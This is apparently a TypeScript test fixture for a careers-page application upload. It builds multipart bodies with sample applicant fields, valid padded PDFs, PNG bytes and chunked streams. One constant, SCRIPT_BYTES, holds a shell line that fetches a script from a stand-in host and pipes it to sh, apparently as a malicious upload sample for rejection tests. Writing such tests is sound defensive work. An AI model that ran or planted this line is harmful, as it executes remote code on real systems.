import { Readable } from 'node:stream';

// Applications as the careers page sends them: multipart/form-data built by
// the platform's own FormData (the browser's encoding), with real PDF bytes.

/** The text fields of a complete application (form values: strings). */
export const applicationFields = {
  type: 'job-offer',
  fullName: 'Youssef Benali',
  email: 'youssef.benali@example.ma',
  phone: '+212612345678',
  country: 'Maroc',
  city: 'Tanger',
  message: 'Bonjour,\nchauffeur poids lourd depuis 2019, permis CE et ADR.',
  experience: '2-years',
  level_of_studies: 'bac+2',
  cv_consent: 'true',
} satisfies Record<string, string>;

/**
 * A small but well-formed PDF (one page, "CV" written on it), padded with a
 * comment after the header to `size` bytes when asked, cross-reference
 * offsets included, so any reader opens it.
 */
export function pdfBytes(size = 0, text = 'CV'): Buffer {
  const header = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${`BT /F1 24 Tf 72 760 Td (${text}) Tj ET`.length} >>\nstream\nBT /F1 24 Tf 72 760 Td (${text}) Tj ET\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const build = (padding: string) => {
    let body = header + padding;
    const offsets: number[] = [];
    objects.forEach((object, index) => {
      offsets.push(Buffer.byteLength(body, 'latin1'));
      body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    });
    const xref = Buffer.byteLength(body, 'latin1');
    body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
    body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
    body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
    return Buffer.from(body, 'latin1');
  };
  const plain = build('');
  if (size <= plain.length) return plain;
  // A comment line of the missing length ('%' + filler + '\n'); the offsets grow by a digit or two.
  const padded = (fill: number) => build(`%${'x'.repeat(fill)}\n`);
  const first = padded(size - plain.length - 2);
  return padded(size - plain.length - 2 - (first.length - size));
}

/** The first bytes of a real PNG file (signature and IHDR chunk). */
export const PNG_BYTES = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);

export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n');

export interface FilePart {
  content: Buffer;
  name?: string;
  type?: string;
}

export interface MultipartRequest {
  payload: Buffer;
  headers: Record<string, string>;
}

/**
 * The body a browser posts for `fields` and `file` (under `file`), text
 * fields first unless `fileFirst`.
 */
export async function multipartBody(
  fields: Record<string, string | undefined>,
  file?: FilePart,
  { fileFirst = false, fileField = 'file' } = {},
): Promise<MultipartRequest> {
  const form = new FormData();
  const appendFile = () => {
    if (file)
      form.append(
        fileField,
        new Blob([new Uint8Array(file.content)], { type: file.type ?? 'application/pdf' }),
        file.name ?? 'cv.pdf',
      );
  };
  if (fileFirst) appendFile();
  for (const [name, value] of Object.entries(fields)) if (value !== undefined) form.append(name, value);
  if (!fileFirst) appendFile();
  const request = new Request('http://127.0.0.1/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type') ?? '' },
  };
}

/** The same body as a stream without Content-Length (chunked), in 64 KB chunks. */
export function chunked(payload: Buffer): Readable {
  return Readable.from(
    (function* chunks() {
      for (let offset = 0; offset < payload.length; offset += 65_536) yield payload.subarray(offset, offset + 65_536);
    })(),
  );
}
